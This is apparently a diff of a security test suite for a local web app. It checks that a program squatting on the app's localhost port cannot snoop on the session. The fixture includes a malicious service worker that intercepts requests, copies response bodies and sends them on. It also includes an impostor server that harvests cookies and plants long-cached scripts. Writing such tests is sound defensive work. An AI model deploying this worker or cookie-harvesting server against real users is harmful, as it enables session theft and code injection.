@@ -1,32 +1,42 @@
 import { once } from 'node:events';
 import { createServer, type Server } from 'node:http';
-import { expect, test } from 'vitest';
-import { freePort } from '../free-port.ts';
-import { startHost } from '../host-process.ts';
-import { openApp } from './browser.ts';
+import { rm } from 'node:fs/promises';
+import type { Page } from 'playwright-core';
+import { describe, expect, onTestFinished, test } from 'vitest';
+import { newDataDirectory, startHost, type RunningHost } from '../host-process.ts';
+import { openApp, settled, type AppBrowser } from './browser.ts';
 
-/** What a program may leave in a browser: a worker that notes each address that it sees, and passes all on. */
+/** What a program may leave in a browser: a worker that notes all that it sees and can read, and passes it on. */
 const worker = `
 const note = async (text) => (await caches.open('seen')).put('/seen/' + encodeURIComponent(text), new Response(''));
 self.addEventListener('install', () => self.skipWaiting());
 self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
 self.addEventListener('fetch', (event) => {
-  event.waitUntil(note(event.request.url));
-  event.respondWith(fetch(event.request));
+  event.respondWith((async () => {
+    const response = await fetch(event.request);
+    const text = response.type === 'opaqueredirect' ? '' : await response.clone().text();
+    await note('ADDRESS ' + event.request.url + ' READ ' + response.url + text.slice(0, 20000));
+    fetch('/told?' + encodeURIComponent(event.request.url), { method: 'POST', body: text }).catch(() => null);
+    return response;
+  })());
 });
 `;
 
 const page = '<!doctype html><title>Impostor</title><h1>Impostor</h1>';
 
-/** Another program on a port, as long as it has it. */
-async function impostor(port: number): Promise<Server> {
+/** Another program at an address, as long as it has it. It answers what the host would be asked for with lasting code of its own. */
+async function impostor(address: string, port: number): Promise<Server & { readonly cookies: Set<string> }> {
+  const cookies = new Set<string>();
   const server = createServer((request, response) => {
+    for (const cookie of request.headers.cookie?.split('; ') ?? []) cookies.add(cookie);
     const isWorker = request.url === '/worker.js';
-    response.setHeader('Content-Type', isWorker ? 'text/javascript' : 'text/html');
-    response.end(isWorker ? worker : page);
-  }).listen(port, '127.0.0.1');
+    const isScript = isWorker || request.url?.startsWith('/assets/') === true;
+    response.setHeader('Content-Type', isScript ? 'text/javascript' : 'text/html');
+    response.setHeader('Cache-Control', isScript && !isWorker ? 'max-age=31536000, immutable' : 'no-store');
+    response.end(isWorker ? worker : isScript ? 'document.title = "Code of another"' : page);
+  }).listen(port, address);
   await once(server, 'listening');
-  return server;
+  return Object.assign(server, { cookies });
 }
 
 async function stop(server: Server): Promise<void> {
@@ -44,50 +54,104 @@ const seen = `caches.open('seen').then((cache) => cache.keys())
 
 const registrations = 'navigator.serviceWorker.getRegistrations().then((all) => all.length)';
 
-test('a worker that another program left at this port in the browser is taken out, and reads nothing of the session', async () => {
-  const port = await freePort();
-  const before = await startHost({ here: true });
-  const app = await openApp(before);
-  const tab = await app.newTab();
-  const origin = `http://127.0.0.1:${port}`;
-  const removed = new Set<string>();
-  const devtools = await app.context.newCDPSession(tab);
-  devtools.on('ServiceWorker.workerRegistrationUpdated', ({ registrations: updated }) => {
-    for (const { scopeURL, isDeleted } of updated) if (isDeleted) removed.add(scopeURL);
-  });
-  await devtools.send('ServiceWorker.enable');
+interface Scene {
+  readonly app: AppBrowser;
+  readonly host: RunningHost;
+  readonly address: string;
+  readonly start: () => Promise<RunningHost>;
+}
 
-  const first = await impostor(port);
-  await tab.goto(`${origin}/`);
-  await tab.evaluate(register);
-  await tab.goto(`${origin}/watched`);
-  await expect.poll(() => tab.evaluate(seen)).toContain(`${origin}/watched`);
-  await stop(first);
+/** A browser that was let in once, and its host. */
+async function scene(): Promise<Scene> {
+  const dataDirectory = await newDataDirectory();
+  onTestFinished(() => rm(dataDirectory, { recursive: true, force: true }));
+  const start = async (): Promise<RunningHost> => {
+    const started = await startHost({ here: true, dataDirectory });
+    onTestFinished(async () => void (await started.stop().catch(() => null)));
+    return started;
+  };
+  const host = await start();
+  const app = await openApp(host);
+  onTestFinished(() => app.close());
+  return { app, host, start, address: new URL(app.origin).hostname };
+}
 
-  const host = await startHost({ words: ['--app-port', String(port)] });
-  expect(host.appPort).toBe(port);
-  await tab.goto(host.appUrl);
-  await tab
-    .getByRole('heading', { name: 'Home' })
-    .or(tab.getByRole('heading', { level: 1 }))
-    .first()
-    .waitFor();
-  expect(new URL(tab.url()).host).toBe(new URL(host.appUrl).host);
-  // Whoever types the usual address meets the worker once more, and is led to the pages.
-  await tab.goto(`${origin}/developer-mode`);
-  await tab.getByRole('heading', { name: 'Developer Mode', level: 1 }).waitFor();
-  expect(new URL(tab.url()).host).toBe(new URL(host.appUrl).host);
-  await expect.poll(() => [...removed], { timeout: 20_000 }).toEqual([`${origin}/`]);
-  await host.stop();
+const isIn = async (tab: Page, name: string): Promise<void> => {
+  await tab.getByRole('heading', { name, level: 1 }).waitFor();
+  await settled(tab);
+};
 
-  // The other program comes back for what its worker has noted.
-  const second = await impostor(port);
-  await tab.goto(`${origin}/back`);
-  expect(await tab.evaluate(registrations)).toBe(0);
-  const noted = await tab.evaluate<readonly string[]>(seen);
-  expect(noted.filter((url) => /key=|app\/v1|assets/.test(url))).toEqual([]);
-  expect(noted).not.toContain(`${origin}/back`);
-  await stop(second);
-  await app.close();
-  await before.stop();
-}, 90_000);
+describe('a program of another user has the address of the pages while no host runs', () => {
+  test('its worker and what it stored are taken out before the first document, and read nothing of the session', async () => {
+    const { app, host, address, start } = await scene();
+    const script = await app.page.evaluate<string>('document.querySelector("script[src]").src');
+    const { appPort } = host;
+    await host.stop();
+    await app.page.close();
+    const first = await impostor(address, appPort);
+    const tab = await app.newTab();
+    await tab.goto(`${app.origin}/`);
+    await tab.evaluate(register);
+    await tab.goto(`${app.origin}/watched`);
+    await tab.evaluate(`fetch(${JSON.stringify(script)}).then((response) => response.text())`);
+    await expect.poll(() => tab.evaluate<readonly string[]>(seen).then((all) => all.join())).toContain('/watched');
+    await stop(first);
+
+    const again = await start();
+    expect(again.appPort).toBe(appPort);
+    await tab.goto(`${app.origin}/activity`);
+    await isIn(tab, 'Activity');
+    expect(await tab.evaluate(registrations)).toBe(0);
+    expect(await tab.title()).not.toContain('Code of another');
+    expect(await tab.evaluate<readonly string[]>(seen)).toEqual([]);
+    await again.stop();
+
+    // The other program comes back for what its worker may have noted or sent.
+    const second = await impostor(address, appPort);
+    await tab.goto(`${app.origin}/back`);
+    expect(await tab.evaluate<readonly string[]>(seen)).toEqual([]);
+    await stop(second);
+  }, 90_000);
+
+  test('a page of it that stays open comes in with nobody: neither by its own requests nor by a window that it opens', async () => {
+    const { app, host, address, start } = await scene();
+    await host.stop();
+    await app.page.close();
+    const first = await impostor(address, host.appPort);
+    const tab = await app.newTab();
+    await tab.goto(`${app.origin}/`);
+    await stop(first);
+    const again = await start();
+    expect(again.appPort).toBe(host.appPort);
+
+    const [opened] = await Promise.all([
+      app.context.waitForEvent('page'),
+      tab.evaluate('void (window.held = window.open("/data"))'),
+    ]);
+    await isIn(opened, 'Data');
+    expect(new URL(opened.url()).origin).toBe(app.origin);
+    expect(await tab.evaluate('window.held.closed')).toBe(true);
+    const second = tab.evaluate('window.second = window.open("/app/v1/session/enter?to=/data"); null');
+    const [other] = await Promise.all([app.context.waitForEvent('page'), second]);
+    await isIn(other, 'Data');
+    expect(await tab.evaluate('window.second.closed')).toBe(true);
+
+    // The browser is in by now, and its cookie goes along with all that this page asks.
+    const answers = await tab.evaluate<readonly string[]>(`Promise.all([
+      fetch('/app/v1/actions/readSettings', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }),
+      fetch('/app/v1/session/enter?to=/', { redirect: 'manual' }),
+      fetch('/data'),
+    ].map((asked) => asked.then(async (response) => response.status + ' ' + (await response.text()), String)))`);
+    expect(answers[0]).toMatch(/^401 .*session_ended/);
+    expect(answers[1]).toMatch(/^401 /);
+    expect(answers[2]).toMatch(/^200 /);
+    expect(answers.join()).not.toMatch(/name="vitalgate-session"|[?&]in=/);
+    // A window that is opened now has a document at once, without a secret, and is lost when it comes in.
+    const [third] = await Promise.all([
+      app.context.waitForEvent('page'),
+      tab.evaluate('void (window.third = window.open("/activity"))'),
+    ]);
+    await isIn(third, 'Activity');
+    expect(await tab.evaluate('window.third.closed')).toBe(true);
+  }, 90_000);
+});
